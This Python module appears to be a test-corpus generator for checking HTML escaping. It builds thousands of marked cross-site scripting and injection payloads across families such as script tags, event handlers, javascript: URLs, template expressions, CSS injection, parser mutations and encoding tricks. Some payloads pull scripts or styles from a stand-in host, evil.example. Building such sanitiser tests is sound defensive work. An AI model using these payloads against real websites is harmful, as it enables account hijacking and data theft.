"""Markup that would do something if one escape were forgotten, made by rule, never listed by hand.

Every payload carries a mark of its own (``zq17z``) inside the part that would
live: in a tag's name, an attribute, a script or a style. Families differ in how
they get out of the text: by a tag, a quote, a scheme, an expression of the
skin's Alpine or htmx, an encoding that somebody might undo.
"""

from __future__ import annotations

import functools
import html
from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from urllib.parse import quote

MARK = "MARK"
RUN = "alert(/MARK/)"
# Where a length leaves no room for a mark: an element or an attribute of this name.
TINY = ('"><zq>', "'><zq>", "<zq>", '" zq="', "' zq='", "<zq x=", "&<zq>")


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, the family it comes from and the mark by which it is found again."""

    text: str
    family: str
    mark: str


@functools.cache
def all_payloads() -> tuple[Payload, ...]:
    """Every payload in a fixed order, families mixed, no two alike but for their marks."""
    made: dict[str, str] = {}
    families = {name: list(dict.fromkeys(make())) for name, make in FAMILIES.items()}
    for at in range(max(map(len, families.values()))):
        for name, shapes in families.items():
            if at < len(shapes):
                made.setdefault(shapes[at], name)
    return tuple(
        Payload(shape.replace(MARK, f"zq{number}z"), family, f"zq{number}z")
        for number, (shape, family) in enumerate(made.items())
    )


def _script_tags() -> Iterator[str]:
    names = ("script", "SCRIPT", "ScRiPt", "\u017fcript", "scr\u0131pt")
    for name, gap in product(names, ("", " ", "\t", "\n", "\x0c", "/", " x", " x='>'")):
        yield f"<{name}{gap}>{RUN}</{name}>"
        yield f"<{name}{gap} src=//evil.example/{MARK}></{name}>"
    for end in ("</script>", "</script >", "</script\n>", "</script/x>", "</SCRIPT foo=bar>", ""):
        yield f"<script>{RUN}{end}"
        yield f"<script type=module>{RUN}{end}"
        yield f"<script defer src='data:,{RUN}'>{end}"
    yield from (
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script<script>>{RUN}</script>",
        f"< script>{RUN}</ script>",
        f"<script\x01>{RUN}</script>",
        f"<\u200bscript>{RUN}</script>",
        f"<script>{RUN}<!--</script>",
        f"<script><!--\n{RUN}//--></script>",
        f"<script>/*<{MARK}>*/</script>",
    )


TAGS = (
    "img", "svg", "body", "video", "audio", "input", "details", "iframe", "object", "marquee",
    "a", "div", "select", "textarea", "button", "form", "math", "table", "style", "link",
    "x-zq", "dialog", "meter", "object",
)  # fmt: skip
EVENTS = (
    "onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart",
    "onpointerenter", "onbegin", "onbeforetoggle", "oncontentvisibilityautostatechange",
    "ONERROR", "OnLoad", "onwheel", "onscrollend", "onsecuritypolicyviolation",
)  # fmt: skip


def _handlers() -> Iterator[str]:
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} src=x autofocus tabindex=1 {event}={RUN}>"


def _glued_handlers() -> Iterator[str]:
    for gap, sign in product((" ", "/", "\t", "\n", "\x0c", "\r", " /", "\x0b"), ("=", " = ")):
        yield f"<img{gap}src=x{gap}onerror{sign}{RUN}>"
        yield f'<img src="x"onerror{sign}"{RUN}">'
        yield f"<svg{gap}onload{sign}'{RUN}'"
        yield f"<input autofocus{gap}onfocus{sign}`{RUN}`>"


def _foreign() -> Iterator[str]:
    inner = (
        f"<script>{RUN}</script>",
        f"<a xlink:href=javascript:{RUN}><text>x</text></a>",
        f"<animate onbegin={RUN} attributeName=x>",
        f"<set attributeName=href to=javascript:{RUN}>",
        f"<use href=data:image/svg+xml,{MARK}#x>",
        f"<foreignObject><iframe srcdoc='{RUN}'></foreignObject>",
        f"<image href=x onerror={RUN}>",
        f"<style>@import '//evil.example/{MARK}';</style>",
        f"<handler>{RUN}</handler>",
        f"<{MARK}>",
    )
    for outer, body in product(("svg", "math", "math><mtext", "svg><desc", "svg><title"), inner):
        yield f"<{outer}>{body}"
        yield f"<{outer}/>{body}</{outer.split('>')[0]}>"


CARRIERS = (
    "<a href={}>x</a>", "<a href='{}'>x</a>", '<a href="{}">x</a>', "<iframe src={}>",
    "<form action={}><input type=submit>", "<button formaction={}>x", "<object data={}>",
    "<embed src={}>", "<svg><a xlink:href={}><text>x", "<area href={}>", "<base href={}>",
    "<link rel=stylesheet href={}>", "<meta http-equiv=refresh content='0;url={}'>",
    "<img src={}>", "<video poster={}>", "<body background={}>", "<iframe srcdoc={}>",
)  # fmt: skip
ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}", f"javascript&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", f"data:text/html;base64,{MARK}",
    f"vbscript:msgbox({MARK})", f"//evil.example/{MARK}", f"\\\\evil.example\\{MARK}",
)  # fmt: skip


def _addresses_in_tags() -> Iterator[str]:
    for carrier, address in product(CARRIERS, ADDRESSES):
        yield carrier.format(address)


def _bare_addresses() -> Iterator[str]:
    for before, address in product(("", " ", "\x1f", "\u00a0", "http:", "https://x/#"), ADDRESSES):
        yield before + address


EXPRESSIONS = (
    "{{{{ {} }}}}", "{{% {} %}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "[[ {} ]]", "{{{{{{ {} }}}}}}",
    "{{{{ constructor.constructor('{}')() }}}}", "{{# {} #}}", "{{{{ '{}'|safe }}}}",
    "`${{{}}}`", "@{{ {} }}", "{{{{ [].filter.constructor('{}')() }}}}", "%{{{}}}",
)  # fmt: skip


def _expressions() -> Iterator[str]:
    for shape, word in product(EXPRESSIONS, (RUN, f"debug {MARK}", "settings.SECRET_KEY MARK")):
        yield shape.format(word)
        yield f"<b {MARK}>{shape.format(word)}</b>"


ATTRIBUTES = (
    "x-data", "x-init", "x-html", "x-text", "x-effect", "x-show", "x-if", "x-for", "x-bind:href",
    "x-on:click", "x-on:mouseenter.window", "x-model", "x-ref", "x-teleport", "x-transition",
    "@click", "@load.window", "@keydown.escape.window", ":href", ":class", ":style", ":innerHTML",
    "hx-get", "hx-post", "hx-on:load", "hx-on::after-request", "hx-trigger", "hx-vals", "hx-vars",
    "hx-swap", "hx-headers", "hx-boost", "data-hx-get", "data-hx-on:click", "v-html", "ng-init",
)  # fmt: skip


def _expressions_in_attributes() -> Iterator[str]:
    for name in ATTRIBUTES:
        yield f"<div x-data {name}={RUN}>"
        yield f'"{name}="{RUN}" x="'
        yield f"' x-data {name}='{RUN}"
        yield f'"><template {name}="js:{RUN}"><i {name}="js:{RUN}">'


def _out_of_quotes() -> Iterator[str]:
    handlers = (f"onmouseover={RUN}", f"style=x:expression({MARK})", f"autofocus onfocus={RUN}",
                f"{MARK}=", f"formaction=javascript:{RUN}")  # fmt: skip
    for mark, gap, handler in product(('"', "'", "`", ""), (" ", "/", "\n", "\x0c"), handlers):
        yield f"{mark}{gap}{handler}{gap}x={mark}"
        yield f"x{mark}>{gap}<i {handler}>"


def _styles() -> Iterator[str]:
    for body in (
        f"*{{background:url(//evil.example/{MARK})}}", f"@import'//evil.example/{MARK}'",
        f"input[value^=a]{{background:url(/{MARK})}}", f"x:expression({RUN})",
        f"-moz-binding:url(//evil.example/{MARK})", f"@font-face{{src:url(/{MARK})}}",
        f"background:url(javascript:{RUN})", f"}}*{{--{MARK}:1", f"/*{MARK}*/}}@media all{{",
        f"\\75rl(//evil.example/{MARK})", f"behavior:url(#{MARK})",
    ):  # fmt: skip
        yield f"<style>{body}</style>"
        yield f"<p style='{body}'>"
        yield f'";{body};"'
        yield f"</style><style>{body}"
        yield f"red;{body}"


def _mutations() -> Iterator[str]:
    live = (f"<img src=x onerror={RUN}>", f"<script>{RUN}</script>", f"<a id={MARK}>")
    for start, end in (
        ("<noscript><p title='</noscript>", "'>"), ("<math><mtext><table><mglyph><style><!--", ""),
        ("<form><math><mtext></form><form><mglyph><style></math>", ""),
        ("<svg></p><style><a id='</style>", "'>"), ("<template><s><![CDATA[", "]]>"),
        ("<listing>&lt;", "</listing>"), ("<xmp></xmp>", ""), ("<plaintext>", ""),
        ("<textarea></textarea>", ""), ("<select><template>", ""), ("<table><caption>", ""),
        ("<p id='`` ", "'>"), ("<a title='&quot;>", "'>"), ("<title></title>", ""),
        ("<iframe></iframe>", ""), ("<noembed></noembed>", ""), ("<svg><![CDATA[>", "]]>"),
        ("<!--><", "-->"), ("<!--->", "-->"), ("<!-- --!>", "-->"), ("<?", "?>"), ("<!", ">"),
        ("</", ">"), ("<br//><", ">"),
    ):  # fmt: skip
        for body in live:
            yield start + body + end


def _encodings() -> Iterator[str]:
    for base in (f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"\"><{MARK} x='",
                 f"javascript:{RUN}", f"</textarea><svg onload={RUN}>"):  # fmt: skip
        yield html.escape(base)
        yield html.escape(html.escape(base))
        yield "".join(f"&#{ord(sign)}" if sign in "<>\"'" else sign for sign in base)
        yield "".join(f"&#x{ord(sign):04X};" if sign in "<>\"'" else sign for sign in base)
        yield quote(base, safe="()/")
        yield quote(quote(base, safe="()/"), safe="()/")
        yield base.replace("<", "\\u003c").replace(">", "\\u003e")
        yield base.replace("<", "\\x3c").replace(">", "\\x3e")
        yield base.replace("<", "+ADw-").replace(">", "+AD4-")
        yield base.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be")
        yield base.replace("<", "\uff1c").replace(">", "\uff1e")
        yield base.replace("<", "\u2039").replace(">", "\u203a")
        yield base.replace("s", "\u017f").replace("i", "\u0130")
        yield "\u200b".join(base.partition(MARK)[0]) + MARK + base.partition(MARK)[2]
        yield f"\u202e{base}\u202c"
        yield f"\u2066{base[::-1]}\u2069{base}"
        yield f"\ufeff{base}\ufffe"
        yield base.replace("<", "<\u200d", 1)
        yield base.replace("<", "%253C").replace(">", "%253E")
        yield base.replace("<", "&LT;").replace(">", "&GT;")
        yield base.replace("<", "\x1b(J<").replace(">", ">\x1b(B")


def _closers() -> Iterator[str]:
    tails = (f"<script>{RUN}</script>", f"<svg onload={RUN}>", f"<{MARK}>", f"<p {MARK}=1>")
    for name, tail in product(
        ("</script>", "</textarea>", "</title>", "</style>", "</noscript>", "</template>",
         "</select>", "</iframe>", "</xmp>", "</bdi></p></div>", "</option></select>", "-->",
         "--!>", "]]>", "*/", "</body></html>", "</a></h3>", "</table>", "\"/>", "'/>"),
        tails,
    ):  # fmt: skip
        yield name + tail
        yield f"x{name.upper()}{tail}"


def _out_of_json() -> Iterator[str]:
    for start in ('"', "'", "\\", '\\"', "\\'", '"}', '"}]', "'}", "</script>", "\u2028", "\u2029",
                  "\\u2028", "${", "`", "*/", "//\n"):  # fmt: skip
        yield f"{start};{RUN};//"
        yield f"{start}-{RUN}-{start}"
        yield f"{start}</script><script>{RUN}//"
        yield f'{start},"__proto__":{{"{MARK}":1}}'


FAMILIES = {
    "script tag": _script_tags,
    "handler": _handlers,
    "glued handler": _glued_handlers,
    "foreign content": _foreign,
    "address in a tag": _addresses_in_tags,
    "bare address": _bare_addresses,
    "expression": _expressions,
    "expression in an attribute": _expressions_in_attributes,
    "out of quotes": _out_of_quotes,
    "style": _styles,
    "mutation": _mutations,
    "encoding": _encodings,
    "closer": _closers,
    "out of JSON": _out_of_json,
}
